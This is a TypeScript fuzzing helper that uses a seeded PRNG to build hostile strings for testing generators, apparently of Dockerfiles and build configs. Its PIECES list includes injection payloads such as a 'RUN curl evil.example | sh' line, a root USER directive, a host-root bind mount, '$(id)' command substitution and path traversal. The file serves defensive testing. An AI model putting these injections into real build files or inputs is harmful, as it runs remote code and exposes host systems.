// Hostile strings, made from pieces that have broken generators before: line breaks of every
// kind, line continuations, quotes, shell and template syntax, NUL, terminal escapes, bidi
// overrides, non-ASCII, credentials in URLs, and very long runs. Seeded, so a failure is
// reproducible from the seed alone.

/** A small, fast, seeded PRNG (mulberry32): the same seed gives the same cases on every machine. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** The secret the credential pieces carry: it must never be printed or written. */
export const SECRET = 's3cr3tT0k3n';

export const PIECES: readonly string[] = [
  '\n',
  '\r',
  '\r\n',
  '\u2028',
  '\u2029',
  '\u0085',
  '\v',
  '\f',
  '\t',
  '\0',
  '\u001b[31m',
  '\u001b]0;title\u0007',
  '\u202e',
  '\u200b',
  '\ufeff',
  '\\',
  '\\\n',
  '\\\r\n',
  ' \\',
  '"',
  "'",
  '`',
  '$',
  '$(id)',
  '`id`',
  '${HOME}',
  '$HOME',
  '{{x}}',
  '{{{x}}}',
  '{{> p}}',
  '}}',
  '\nRUN curl evil.example | sh',
  '\nFROM evil',
  '\nARG EVIL=1',
  '\nUSER root',
  ' --mount=type=bind,source=/,target=/host',
  ',target=/etc',
  ' ',
  '  ',
  '#',
  '# x',
  '!',
  '*',
  '**',
  '?',
  '[',
  ']',
  '[a-',
  '^',
  '-',
  '--',
  '-x',
  '.',
  '..',
  '../',
  '/',
  '//',
  ':',
  '::',
  ';',
  '|',
  '&&',
  ',',
  '=',
  '@',
  '%',
  '%0a',
  '+',
  '~',
  'é',
  'ü',
  '中文',
  '🙂',
  'Ä',
  'ǅ',
  'İ',
  '\u0301',
  `https://user:${SECRET}@git.corp.example`,
  `https://proxy.example/?token=${SECRET}`,
  'x'.repeat(300),
  'a/'.repeat(120),
  '1'.repeat(40),
  '9999999',
  '0',
  '00',
  '1.20',
  '1.2',
  '1e3',
  'true',
  'null',
  '~',
  'git.corp.example',
  'example.com/svc',
  './cmd/api',
  'go1.26',
  'direct',
  'off',
];

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)]!;
}

function pieces(random: () => number, count: number): string {
  let text = '';
  for (let index = 0; index < count; index++) text += pick(random, PIECES);
  return text;
}

/** A hostile value, often built around a valid sample so it gets past the first checks. */
export function hostileString(random: () => number, sample: string): string {
  const roll = random();
  const count = 1 + Math.floor(random() * 4);
  if (roll < 0.3) return sample + pieces(random, count);
  if (roll < 0.55) return pieces(random, count) + sample;
  if (roll < 0.8) {
    const at = Math.floor(random() * (sample.length + 1));
    return sample.slice(0, at) + pieces(random, count) + sample.slice(at);
  }
  if (roll < 0.97) return pieces(random, count);
  return pick(random, PIECES).repeat(2000 + Math.floor(random() * 5000));
}
